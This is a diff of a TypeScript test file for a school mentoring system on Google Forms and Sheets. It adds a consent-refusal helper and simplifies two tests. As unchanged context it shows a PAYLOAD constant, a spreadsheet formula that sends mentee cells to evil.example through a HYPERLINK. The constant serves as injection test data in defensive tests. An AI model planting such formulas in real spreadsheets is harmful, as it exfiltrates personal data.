@@ -17,6 +17,9 @@ import {
  */
 
 const RESPONSES = 'Ответы: анкета наставляемого';
+
+/** «Нет» to the consent sends the form from its first page (page navigation SUBMIT): only the name is typed. */
+const refusal = (name: string) => ({ [Q['mentee.fullName']]: name, [Q['mentee.consentPd']]: CONSENT_NO });
 const PAYLOAD = `=HYPERLINK("https://evil.example/?d="&ENCODEURL(JOIN(",",'Наставляемые'!B2:C40)),"Подробнее")`;
 const BULLETS = '- научиться планировать уроки\n- освоить работу с родителями';
 
@@ -36,11 +39,7 @@ describe('10.1 blanking response rows never writes back what it read', () => {
       'sidorova@school.example',
     );
     a.emulator.submitForm(a.menteeForm, menteeAnswers('Посторонний Пётр Петрович'), outsider);
-    a.emulator.submitForm(
-      a.menteeForm,
-      menteeAnswers('Посторонний Пётр Петрович', { [Q['mentee.consentPd']]: CONSENT_NO }),
-      outsider,
-    );
+    a.emulator.submitForm(a.menteeForm, refusal('Посторонний Пётр Петрович'), outsider);
 
     const sheet = a.sheet(RESPONSES);
     expect(formulaCount(sheet)).toBe(0);
@@ -60,11 +59,7 @@ describe('10.4 a duplicate submit event after the de-duplication cache expired c
   it('re-delivered 7 hours later: no journal line, refusal count unchanged', () => {
     const a = builtWithForms();
     a.emulator.submitForm(a.menteeForm, menteeAnswers('Петрова Анна Ивановна'), 'petrova@school.example');
-    a.emulator.submitForm(
-      a.menteeForm,
-      menteeAnswers('Иванов Иван Иванович', { [Q['mentee.consentPd']]: CONSENT_NO }),
-      'ivanov@school.example',
-    );
+    a.emulator.submitForm(a.menteeForm, refusal('Иванов Иван Иванович'), 'ivanov@school.example');
     const lines = journal(a.ss).length;
     expect(setting(a.ss, 'form.mentee.refused')).toBe('1');
     a.emulator.ctx.advance(7 * 3600 * 1000); // CacheService keeps a value at most 6 hours
